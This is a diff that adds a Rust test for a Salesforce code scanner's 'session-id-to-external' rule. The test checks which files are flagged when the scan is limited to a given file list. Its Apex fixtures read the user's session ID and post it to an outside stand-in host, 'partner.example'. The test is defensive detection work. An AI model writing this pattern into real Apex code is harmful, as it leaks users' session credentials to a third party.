@@ -1019,3 +1019,62 @@ fn output_onto_folders_missing_folders_and_fifos() {
     let got: serde_json::Value = serde_json::from_slice(&reader.join().expect("reader")).expect("json");
     assert!(got["findings"].as_array().is_some_and(|f| !f.is_empty()));
 }
+
+/// A commit that adds only a session source still shows the callout it reaches in an
+/// unchanged class, a caller or a callee, as the full scan does.
+#[test]
+fn a_file_list_reports_the_flows_that_start_in_it() {
+    let callout = "HttpRequest r = new HttpRequest(); r.setEndpoint('https://partner.example/t'); r.setBody(s); new Http().send(r);";
+    let caller = format!("public class Caller {{ public static void go() {{ String s = Source.sid(); {callout} }} }}");
+    let callee = format!("public class Out {{ public static void send(String s) {{ {callout} }} }}");
+    let p = project(&[
+        (
+            "force-app/main/default/classes/Source.cls",
+            b"public class Source { public static String sid() { return UserInfo.getSessionId(); } }",
+        ),
+        ("force-app/main/default/classes/Caller.cls", caller.as_bytes()),
+        (
+            "force-app/main/default/classes/Pusher.cls",
+            b"public class Pusher { public static void go() { Out.send(UserInfo.getSessionId()); } }",
+        ),
+        ("force-app/main/default/classes/Out.cls", callee.as_bytes()),
+    ]);
+    let scan = |extra: &[&str]| {
+        let mut a = vec![
+            "check",
+            "--no-cache",
+            "--now",
+            NOW,
+            "--format",
+            "json",
+            "--select",
+            "session-id-to-external",
+        ];
+        a.extend(extra);
+        let o = sfsec(p.path(), &a);
+        json_findings(&o).into_iter().map(|f| f.0).collect::<Vec<String>>()
+    };
+    let full = scan(&[]);
+    assert_eq!(
+        full,
+        [
+            "force-app/main/default/classes/Caller.cls",
+            "force-app/main/default/classes/Out.cls"
+        ]
+    );
+    assert_eq!(
+        scan(&["force-app/main/default/classes/Source.cls"]),
+        ["force-app/main/default/classes/Caller.cls"]
+    );
+    assert_eq!(
+        scan(&["force-app/main/default/classes/Pusher.cls"]),
+        ["force-app/main/default/classes/Out.cls"]
+    );
+    // An unrelated class given alone reports neither.
+    std::fs::write(
+        p.path().join("force-app/main/default/classes/Other.cls"),
+        "public class Other { }",
+    )
+    .expect("w");
+    assert!(scan(&["force-app/main/default/classes/Other.cls"]).is_empty());
+}
